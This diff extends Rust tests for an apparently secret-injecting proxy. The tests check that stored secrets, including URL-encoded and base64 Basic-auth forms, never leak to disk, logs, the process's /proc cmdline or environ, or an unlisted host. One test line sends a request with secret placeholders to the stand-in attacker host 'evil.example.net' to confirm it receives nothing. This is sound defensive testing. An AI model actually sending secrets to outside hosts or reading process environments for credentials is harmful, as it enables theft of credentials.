@@ -51,6 +51,19 @@ async fn create_list_show_edit_and_delete_whether_it_runs_or_not() {
 }
 
 #[tokio::test]
+async fn an_edit_changes_the_limits_it_names_and_no_others() {
+    let world = World::new().await;
+    let p = &world.proxy;
+    p.must(&["secret", "create", "lim", "--value-stdin", "--surfaces", "query,header", "--header", "X-Key"], "v").await;
+    p.must(&["secret", "edit", "lim", "--value-stdin", "--url-encoded"], "w").await;
+    let shown: serde_json::Value = serde_json::from_str(&p.must(&["secret", "show", "lim", "--json"], "").await).expect("JSON");
+    assert_eq!(
+        shown["limits"],
+        serde_json::json!({ "surfaces": ["query", "header", "authentication"], "headers": ["x-key"], "url_encoded": true })
+    );
+}
+
+#[tokio::test]
 async fn a_restart_finds_what_was_stored() {
     let mut world = World::new().await;
     world.proxy.stop().await;
@@ -77,8 +90,11 @@ async fn bad_input_is_refused_with_its_reason() {
 #[tokio::test]
 async fn the_value_is_nowhere_on_disk_in_logs_or_in_the_process_table() {
     let mut world = World::new().await;
-    let request = format!("GET /{{secrets.crm.apiKey}} HTTP/1.1\r\nHost: {CRM}\r\nX: {{secrets.crm.apiKey}}\r\n\r\n");
+    let request = format!(
+        "GET /{{secrets.crm.apiKey}} HTTP/1.1\r\nHost: {CRM}\r\nX: {{secrets.crm.apiKey}}\r\nAuthorization: Basic bWU6e3NlY3JldHMuY3JtLmFwaUtleX0=\r\n\r\n"
+    );
     world.send_tls(CRM, &request).await;
+    assert_eq!(world.crm.only().field("authorization"), format!("Basic {}", forms()[3]));
     world.send_tls("evil.example.net", &request.replace(CRM, "evil.example.net")).await;
     let table = format!("/proc/{}", world.proxy.process_id());
     for name in ["cmdline", "environ"] {
@@ -87,15 +103,22 @@ async fn the_value_is_nowhere_on_disk_in_logs_or_in_the_process_table() {
     let listed = world.proxy.must(&["secret", "list"], "").await;
     assert!(!listed.contains(VALUE));
     world.proxy.stop().await;
-    assert!(!world.proxy.log().contains(VALUE));
+    assert!(!forms().iter().any(|form| world.proxy.log().contains(form)));
     let mut files = 0;
     grep(&world.proxy.path(""), &mut files);
     assert!(files >= 5, "only {files} files were looked at");
 }
 
+/// The value, and what it becomes on its way.
+fn forms() -> [String; 4] {
+    use base64::Engine;
+    let base64 = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
+    [VALUE.to_owned(), "abc123-Zx%2F9%2B%3Dsecret".to_owned(), base64(VALUE), base64(&format!("me:{VALUE}"))]
+}
+
 fn holds(path: &Path) -> bool {
     let bytes = std::fs::read(path).unwrap_or_default();
-    bytes.windows(VALUE.len()).any(|part| part == VALUE.as_bytes())
+    forms().iter().any(|form| memchr::memmem::find(&bytes, form.as_bytes()).is_some())
 }
 
 fn grep(folder: &Path, files: &mut usize) {
